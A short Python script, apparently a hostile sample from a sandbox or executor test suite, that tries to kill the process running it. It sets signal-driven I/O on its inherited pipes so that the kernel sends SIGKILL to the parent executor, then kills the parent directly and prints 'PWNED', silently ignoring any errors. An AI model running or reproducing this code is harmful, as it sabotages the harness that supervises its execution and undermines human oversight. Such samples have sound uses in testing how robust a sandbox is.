# floor: harmed
# It has the kernel signal the executor: F_SETOWN, F_SETSIG, O_ASYNC on its own pipes.
import fcntl, os
for descriptor in range(5):
    try:
        fcntl.fcntl(descriptor, fcntl.F_SETOWN, os.getppid())
        fcntl.fcntl(descriptor, 10, 9)
        fcntl.fcntl(descriptor, fcntl.F_SETFL, fcntl.fcntl(descriptor, fcntl.F_GETFL) | os.O_ASYNC)
    except OSError:
        pass
try:
    os.kill(os.getppid(), 9)  # what at the floor it could as well do
    print("PWNED")
except OSError:
    pass
